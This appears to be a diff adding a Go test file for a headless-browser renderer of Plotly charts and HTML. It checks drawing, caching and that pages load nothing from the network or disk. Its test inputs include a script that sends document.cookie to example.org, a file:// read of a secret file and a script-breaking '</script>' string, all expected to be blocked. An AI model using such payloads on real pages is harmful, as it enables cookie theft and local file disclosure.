@@ -1,0 +1,93 @@
+package snapshot_test
+
+import (
+	"bytes"
+	"errors"
+	"image/png"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/flowbook/flowbook/reportgen/internal/browser"
+	"github.com/flowbook/flowbook/reportgen/internal/snapshot"
+)
+
+// packages returns a folder of packages with a small script in place of Plotly's.
+func packages(t *testing.T) string {
+	t.Helper()
+	if _, err := browser.Find(); err != nil {
+		t.Skipf("nothing is drawn: %v", err)
+	}
+	dir := t.TempDir()
+	file := filepath.Join(dir, "plotly", "package_data", "plotly.min.js")
+	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	const script = `window.Plotly = {
+		newPlot: async (id, data, layout) => ({_fullLayout: layout, data}),
+		toImage: async (e, o) => "data:image/svg+xml," + encodeURIComponent('<svg id="' + Math.random() + '" width="' + o.width + '"><text>' + e.data[0].name + '</text></svg>'),
+	};`
+	if err := os.WriteFile(file, []byte(script), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+func TestPlotly(t *testing.T) {
+	b := snapshot.New([]string{t.TempDir(), packages(t)})
+	defer func() {
+		if err := b.Close(); err != nil {
+			t.Error(err)
+		}
+	}()
+	figure := map[string]any{"data": []any{map[string]any{"name": "</script><b>x"}}, "layout": map[string]any{"width": 123}}
+	first, err := b.Plotly(figure)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(first.SVG, `width="123"`) || !strings.Contains(first.SVG, "</script><b>x") {
+		t.Errorf("drew %s", first.SVG)
+	}
+	if again, err := b.Plotly(figure); err != nil || again.SVG != first.SVG {
+		t.Errorf("drew another picture: %s, %v", again.SVG, err)
+	}
+	if _, err := b.Plotly(map[string]any{}); err == nil || !strings.Contains(err.Error(), "the chart's script failed") {
+		t.Errorf("a chart without data: %v", err)
+	}
+}
+
+func TestHTML(t *testing.T) {
+	packages(t)
+	b := snapshot.New(nil)
+	defer func() {
+		if err := b.Close(); err != nil {
+			t.Error(err)
+		}
+	}()
+	picture, err := b.HTML(`<canvas id="c" width="300" height="100"></canvas><script>document.getElementById("c").getContext("2d").fillRect(0, 0, 300, 100)</script>`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	drawn, err := png.Decode(bytes.NewReader(picture.PNG))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r, g, bl, _ := drawn.At(200, 100).RGBA(); r+g+bl != 0 || picture.Width < 300 || drawn.Bounds().Dx() != 2*picture.Width {
+		t.Errorf("drew %v of %d pixels, black is %d %d %d", drawn.Bounds(), picture.Width, r, g, bl)
+	}
+	// Nothing is loaded: neither from the network nor from the machine.
+	secret := filepath.Join(t.TempDir(), "secret.svg")
+	if err := os.WriteFile(secret, []byte("<svg/>"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, body := range []string{`<script src="https://example.org/x.js"></script>`, `<img src="file://` + secret + `">`, `<script>fetch("https://example.org/?" + document.cookie)</script>`} {
+		_, err := b.HTML("text" + body)
+		if missing, ok := errors.AsType[*snapshot.MissingError](err); !ok || len(missing.Addresses) != 1 {
+			t.Errorf("%s: %v", body, err)
+		}
+	}
+	if _, err := b.HTML("<script></script>"); err == nil || err.Error() != "its scripts draw nothing" {
+		t.Errorf("an empty page: %v", err)
+	}
+}
